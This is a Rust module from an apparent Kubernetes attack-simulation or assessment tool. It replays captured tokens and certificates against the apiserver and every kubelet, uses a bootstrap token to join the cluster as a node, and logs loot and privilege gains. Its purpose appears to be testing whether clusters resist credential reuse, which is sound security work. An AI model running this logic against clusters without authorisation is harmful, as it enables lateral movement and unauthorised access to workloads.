//! What was captured is used: at the apiserver, and at every kubelet.

use super::{certify, join, streams};
use crate::holdings::{Held, Secret};
use crate::notes::Notes;
use crate::speak::{Answer, Request, ask};
use crate::target::{Ask, Speaks, Target, TokenShape};
use ravelin_host::BoxedStream;
use ravelin_oracle::{GainKind, Property};
use ravelin_pki::Identity;
use ravelin_transport::TlsError;
use ravelin_transport::danger;
use std::net::SocketAddr;

/// Why there was no answer.
#[derive(Debug)]
pub enum Silence {
    /// The server refused the handshake or cut the session with this alert.
    Alert(String),
    /// Nothing came.
    Nothing,
}

/// Credentials that an attacker shows.
#[derive(Clone, Default)]
pub struct Shown<'a> {
    /// A bearer token.
    pub token: Option<&'a str>,
    /// A certificate.
    pub identity: Option<Identity>,
}

impl<'a> Shown<'a> {
    /// One credential.
    pub fn of(secret: &'a Secret) -> Self {
        match secret {
            Secret::Token(token) => Self { token: Some(token), identity: None },
            Secret::Certificate(identity) => Self { token: None, identity: Some(identity.clone()) },
        }
    }
}

/// Makes one request of the attacker's own, over a connection that this tactic has already where
/// there is one.
pub async fn request(
    notes: &Notes<'_>,
    to: SocketAddr,
    speaks: Speaks,
    (what, shown): (Request, Shown<'_>),
) -> Result<Answer, Silence> {
    let leaf = |identity: &Identity| identity.chain.first().map(|leaf| leaf.to_vec());
    let line = (to, shown.identity.as_ref().and_then(leaf));
    let what = what.with_token(shown.token);
    if let Some(wanted) = &what.streams {
        let stream = connect(notes, to, (speaks, shown.identity)).await?;
        return streams::request(notes.field(), stream, (&what, wanted)).await;
    }
    if let Some(mut open) = notes.take_line(&line)
        && let Ok(answer) = ask(&mut open, &what).await
    {
        notes.keep_line(line, open);
        return Ok(answer);
    }
    let mut stream = connect(notes, to, (speaks, shown.identity)).await?;
    let answer = ask(&mut stream, &what).await;
    if answer.is_ok() {
        notes.keep_line(line, stream);
    }
    answer.map_err(Silence::of)
}

impl Silence {
    /// What an error means, where there was one.
    pub fn of(error: Option<std::io::Error>) -> Self {
        error.map_or(Self::Nothing, |error| silence(error.into()))
    }
}

/// A connection of the attacker's own.
pub async fn connect(
    notes: &Notes<'_>,
    to: SocketAddr,
    (speaks, identity): (Speaks, Option<Identity>),
) -> Result<BoxedStream, Silence> {
    let field = notes.field();
    let Ok(connection) = field.connect(to).await else {
        Property::ALL.into_iter().for_each(|property| notes.out_of_reach(property));
        return Err(Silence::Nothing);
    };
    let stream = connection.stream;
    if speaks == Speaks::Http {
        return Ok(stream);
    }
    let secured = danger::connect(field.host(), stream, &to.ip().to_string(), identity).await;
    Ok(secured.map_err(silence)?.stream)
}

fn silence(error: TlsError) -> Silence {
    match error {
        TlsError::PeerRefusedUs { alert } => Silence::Alert(alert),
        _ => Silence::Nothing,
    }
}

/// A request for what only others may have.
pub fn for_ask(ask: &Ask, to: SocketAddr) -> Request {
    let mut request = Request::new(ask.method, &ask.path, &to.to_string());
    if let Some((content_type, content)) = &ask.body {
        request.headers.push(("content-type".to_owned(), (*content_type).to_owned()));
        request.body.clone_from(content);
    }
    if let Some(wanted) = &ask.streams {
        request.headers.extend(streams::headers(wanted));
        request.streams = Some(wanted.clone());
    }
    request
}

/// Uses every credential that was captured in this attempt, wherever one is taken: at the
/// apiserver, at every kubelet; with a bootstrap token it joins the cluster first.
pub async fn spend(notes: &Notes<'_>, target: &Target) {
    for token in notes.tokens() {
        if let TokenShape::Bootstrap { .. } = TokenShape::of(&token)
            && let Some(identity) = join::join(notes, target, &token).await
        {
            let what = "the certificate that a captured bootstrap token brought".to_owned();
            use_everywhere(notes, target, &Held { what, secret: Secret::Certificate(identity) }).await;
        }
        let held = Held { what: "a captured token".to_owned(), secret: Secret::Token(token) };
        use_everywhere(notes, target, &held).await;
    }
}

async fn use_everywhere(notes: &Notes<'_>, target: &Target, held: &Held) {
    notes.field().loot().add(held.clone());
    let at_apiserver = match held.secret {
        Secret::Token(_) => target.apiserver_ask.clone(),
        // A node sees the requests of all others (the node authorizer's rules).
        Secret::Certificate(_) => Ask::get(certify::REQUESTS, "every signing request"),
    };
    let pods = Ask::get("/pods", "the node's pods");
    let at_kubelets = target.kubelets.iter().map(|kubelet| (*kubelet, pods.clone()));
    for (to, wanted) in std::iter::once((target.apiserver, at_apiserver)).chain(at_kubelets) {
        spend_one(notes, held, (to, &wanted)).await;
    }
}

async fn spend_one(notes: &Notes<'_>, held: &Held, (to, wanted): (SocketAddr, &Ask)) {
    let flow = notes.field().flow(to);
    let anonymous = request(notes, to, Speaks::Https, (for_ask(wanted, to), Shown::default())).await;
    let asked = (for_ask(wanted, to), Shown::of(&held.secret));
    if anonymous.is_err() {
        notes.out_of_reach(Property::CredentialSafe);
    }
    match (request(notes, to, Speaks::Https, asked).await, anonymous) {
        // What everybody gets proves nothing, unless the answer says that it is for somebody else.
        (Ok(answer), Ok(anonymous)) if is_more(&answer, &anonymous) => {
            notes.learned(&flow, answer.body);
            notes.gained(&flow, GainKind::CredentialUsed, format!("used {} with success", held.what));
            let text = format!("{} with {}", wanted.deed(), held.what);
            notes.gained(&flow, GainKind::BeyondRights, text);
        }
        (Ok(answer), _) => notes.tell(format!("{flow}: {} was answered {}", held.what, answer.status)),
        (Err(_), _) => notes.tell(format!("{flow}: {} was not answered", held.what)),
    }
}

/// Was the credential worth anything? Where everybody is granted the same, only an answer that
/// tells who asked (a SelfSubjectReview) shows that it was taken.
fn is_more(answer: &Answer, anonymous: &Answer) -> bool {
    let who = |answer: &Answer| {
        let review: serde_json::Value = serde_json::from_slice(&answer.body).ok()?;
        Some(review["status"]["userInfo"]["username"].as_str()?.to_owned())
    };
    answer.granted() && (!anonymous.granted() || who(answer).is_some() && who(answer) != who(anonymous))
}
